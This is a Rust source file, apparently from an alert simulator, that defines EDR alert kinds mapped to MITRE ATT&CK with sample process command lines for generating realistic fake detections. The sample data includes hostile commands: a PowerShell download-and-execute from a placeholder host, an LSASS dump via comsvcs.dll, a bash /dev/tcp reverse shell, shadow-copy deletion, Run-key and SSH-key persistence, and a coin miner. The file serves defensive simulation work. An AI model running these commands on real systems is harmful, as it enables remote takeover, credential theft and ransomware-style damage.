//! The kinds of alert. Behaviour is real (MITRE ATT&CK), names and texts are the simulator's own.

use super::machine::Platform;

/// Which engine raises an alert; each vendor renders it in its own product names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Family {
    /// The endpoint agent (Falcon: epp; Cortex: XDR Agent, BIOC).
    Endpoint,
    /// Identity protection (Falcon: idp; Cortex: Identity Analytics).
    Identity,
    /// An on-demand scan (Falcon: ods).
    Scan,
    /// Threat hunters (Falcon: overwatch; Cortex: Managed Threat Hunting).
    Hunting,
    /// Cloud workload protection (Falcon: cwpp).
    Workload,
}

/// What an alert holds besides its process tree.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Proof {
    /// The process tree alone.
    Process,
    /// Files written.
    File,
    /// Network connections.
    Network,
    /// Registry values.
    Registry,
    /// DNS requests, with the connection that follows.
    Dns,
}

/// (image path, command line); `{user}`, `{host}` and `{hex}` are filled in.
pub(crate) type Program = (&'static str, &'static str);

/// One kind of alert.
#[derive(Debug)]
pub struct Kind {
    /// Its name.
    pub name: &'static str,
    /// What it means.
    pub description: &'static str,
    /// The engine.
    pub family: Family,
    /// The platforms it is seen on.
    pub platforms: &'static [Platform],
    /// The usual score, 1 to 100.
    pub score: u8,
    /// (id, name) of the tactic.
    pub tactic: (&'static str, &'static str),
    /// (id, name) of the technique.
    pub technique: (&'static str, &'static str),
    /// The vendor's number of the pattern.
    pub pattern: u32,
    /// The evidence.
    pub proof: Proof,
    /// What the attacker is after.
    pub objective: &'static str,
    /// Falcon's scenario.
    pub scenario: &'static str,
    pub(crate) process: Program,
    pub(crate) parent: Program,
    pub(crate) grandparent: Program,
}

use Platform::{Linux, MacOs, Windows};

const EXPLORER: Program = (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE");
const WINLOGON: Program = (r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe");
const SERVICES: Program = (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe");
const WININIT: Program = (r"C:\Windows\System32\wininit.exe", "wininit.exe");
const CMD: Program = (r"C:\Windows\System32\cmd.exe", r"C:\Windows\system32\cmd.exe /c start.cmd");
const LAUNCHD: Program = ("/sbin/launchd", "/sbin/launchd");
const TERMINAL: Program = ("/bin/zsh", "-zsh");
const SYSTEMD: Program = ("/usr/lib/systemd/systemd", "/sbin/init");
const SSHD: Program = ("/usr/sbin/sshd", "sshd: {user} [priv]");
const BASH: Program = ("/usr/bin/bash", "-bash");

macro_rules! kind {
    ($name:literal, $text:literal, $family:ident, [$($on:ident),+], $score:literal, $tactic:expr, $technique:expr,
     $pattern:literal, $proof:ident, $objective:literal, $scenario:literal, $process:expr, $parent:expr, $grand:expr) => {
        Kind {
            name: $name,
            description: $text,
            family: Family::$family,
            platforms: &[$($on),+],
            score: $score,
            tactic: $tactic,
            technique: $technique,
            pattern: $pattern,
            proof: Proof::$proof,
            objective: $objective,
            scenario: $scenario,
            process: $process,
            parent: $parent,
            grandparent: $grand,
        }
    };
}

/// Every kind of alert.
pub const KINDS: &[Kind] = &[
    kind!(
        "SuspiciousPowerShellDownload",
        "PowerShell fetched and ran code from a remote address.",
        Endpoint,
        [Windows],
        70,
        ("TA0002", "Execution"),
        ("T1059.001", "PowerShell"),
        10_112,
        Network,
        "Follow Through",
        "suspicious_activity",
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -c \"iwr http://cdn.update-check.example/{hex}.ps1 | iex\""
        ),
        CMD,
        EXPLORER
    ),
    kind!(
        "OfficeSpawnedShell",
        "A document opened a command shell.",
        Endpoint,
        [Windows],
        55,
        ("TA0001", "Initial Access"),
        ("T1566.001", "Spearphishing Attachment"),
        10_340,
        File,
        "Gain Access",
        "suspicious_activity",
        (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c %TEMP%\{hex}.bat"),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r#""WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice 4471.docm""#
        ),
        EXPLORER
    ),
    kind!(
        "CredentialDumpFromLsass",
        "A process read the memory of the local security authority.",
        Endpoint,
        [Windows],
        90,
        ("TA0006", "Credential Access"),
        ("T1003.001", "LSASS Memory"),
        10_197,
        File,
        "Gain Access",
        "credential_theft",
        (
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 712 C:\Temp\{hex}.dmp full"
        ),
        CMD,
        SERVICES
    ),
    kind!(
        "RunKeyPersistence",
        "A value that starts a program at logon was written.",
        Endpoint,
        [Windows],
        45,
        ("TA0003", "Persistence"),
        ("T1547.001", "Registry Run Keys / Startup Folder"),
        10_051,
        Registry,
        "Keep Access",
        "establish_persistence",
        (
            r"C:\Windows\System32\reg.exe",
            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\{user}\AppData\Roaming\{hex}.exe"
        ),
        CMD,
        EXPLORER
    ),
    kind!(
        "ShadowCopiesDeleted",
        "Volume shadow copies were deleted, as ransomware does before it encrypts.",
        Endpoint,
        [Windows],
        95,
        ("TA0040", "Impact"),
        ("T1490", "Inhibit System Recovery"),
        10_248,
        Process,
        "Follow Through",
        "ransomware",
        (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        CMD,
        SERVICES
    ),
    kind!(
        "MaliciousFileWritten",
        "A file known to be malicious was written to disk.",
        Endpoint,
        [Windows, MacOs, Linux],
        65,
        ("CSTA0004", "Machine Learning"),
        ("CST0007", "Sensor-based ML"),
        5_702,
        File,
        "Falcon Detection Method",
        "NGAV",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "BeaconToKnownServer",
        "A process looks up and contacts a command and control server at regular intervals.",
        Endpoint,
        [Windows, MacOs, Linux],
        75,
        ("TA0011", "Command and Control"),
        ("T1071.004", "DNS"),
        10_405,
        Dns,
        "Keep Access",
        "suspicious_activity",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "RemoteServiceCreated",
        "A service was created from another host over SMB.",
        Endpoint,
        [Windows],
        60,
        ("TA0008", "Lateral Movement"),
        ("T1021.002", "SMB/Windows Admin Shares"),
        10_611,
        Network,
        "Explore",
        "lateral_movement",
        (r"C:\Windows\PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe"),
        SERVICES,
        WININIT
    ),
    kind!(
        "UserExecutedDownload",
        "A user opened a program downloaded from the web that no one else runs.",
        Endpoint,
        [Windows, MacOs],
        25,
        ("TA0002", "Execution"),
        ("T1204.002", "Malicious File"),
        20_151,
        File,
        "Follow Through",
        "attacker_methodology",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "LaunchAgentPersistence",
        "A launch agent was installed outside the usual installers.",
        Endpoint,
        [MacOs],
        40,
        ("TA0003", "Persistence"),
        ("T1543.001", "Launch Agent"),
        20_230,
        File,
        "Keep Access",
        "establish_persistence",
        ("/bin/launchctl", "launchctl load /Users/{user}/Library/LaunchAgents/com.{hex}.plist"),
        TERMINAL,
        LAUNCHD
    ),
    kind!(
        "ReverseShell",
        "A shell talks to a remote address over a raw socket.",
        Endpoint,
        [Linux, MacOs],
        85,
        ("TA0002", "Execution"),
        ("T1059.004", "Unix Shell"),
        30_077,
        Network,
        "Gain Access",
        "suspicious_activity",
        ("/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1"),
        SSHD,
        SYSTEMD
    ),
    kind!(
        "CryptominerInContainer",
        "A coin miner runs in a container.",
        Workload,
        [Linux],
        50,
        ("TA0040", "Impact"),
        ("T1496", "Resource Hijacking"),
        30_412,
        Network,
        "Follow Through",
        "malware",
        ("/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example:3333 -u {hex}"),
        ("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io"),
        SYSTEMD
    ),
    kind!(
        "SshKeyAdded",
        "A key was added to the authorised keys of root.",
        Endpoint,
        [Linux],
        35,
        ("TA0003", "Persistence"),
        ("T1098.004", "SSH Authorized Keys"),
        30_118,
        File,
        "Keep Access",
        "establish_persistence",
        ("/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
        BASH,
        SSHD
    ),
    kind!(
        "UnusualLogonToServer",
        "An account logged on to a server that it has never used.",
        Identity,
        [Windows],
        30,
        ("TA0008", "Lateral Movement"),
        ("T1078.002", "Domain Accounts"),
        51_113,
        Network,
        "Explore",
        "lateral_movement",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "KerberoastingAttempt",
        "One account asked for many service tickets with weak encryption.",
        Identity,
        [Windows],
        72,
        ("TA0006", "Credential Access"),
        ("T1558.003", "Kerberoasting"),
        51_140,
        Process,
        "Gain Access",
        "credential_theft",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "MaliciousFileFoundByScan",
        "A scan on demand found a malicious file at rest.",
        Scan,
        [Windows],
        48,
        ("CSTA0004", "Machine Learning"),
        ("CST0008", "Cloud-based ML"),
        41_002,
        File,
        "Falcon Detection Method",
        "ods",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "HandsOnKeyboard",
        "Hunters saw an operator at work on this host.",
        Hunting,
        [Windows, Linux],
        99,
        ("CSTA0006", "Falcon Overwatch"),
        ("CST0002", "Malicious Activity"),
        10_304,
        Process,
        "Falcon Detection Method",
        "suspicious_activity",
        ("", ""),
        ("", ""),
        ("", "")
    ),
    kind!(
        "AdwareInstalled",
        "An unwanted program installed itself for one user.",
        Endpoint,
        [Windows, MacOs],
        12,
        ("CSTA0003", "Adware/PUP"),
        ("CST0000", "Adware/PUP"),
        5_711,
        File,
        "Falcon Detection Method",
        "NGAV",
        ("", ""),
        ("", ""),
        ("", "")
    ),
];

/// The process, parent and grandparent of a kind on a platform; kinds that run anywhere have a tree for each.
pub(crate) fn tree(kind: &Kind, platform: Platform) -> [Program; 3] {
    if !kind.process.0.is_empty() {
        return [kind.process, kind.parent, kind.grandparent];
    }
    match platform {
        Windows => [
            (
                r"C:\Users\{user}\Downloads\setup_{hex}.exe",
                r#""C:\Users\{user}\Downloads\setup_{hex}.exe" /S"#,
            ),
            EXPLORER,
            WINLOGON,
        ],
        MacOs => [
            (
                "/Users/{user}/Downloads/Update.app/Contents/MacOS/Update",
                "/Users/{user}/Downloads/Update.app/Contents/MacOS/Update",
            ),
            TERMINAL,
            LAUNCHD,
        ],
        Linux => [("/tmp/.{hex}/kworkerds", "/tmp/.{hex}/kworkerds -d"), BASH, SSHD],
    }
}
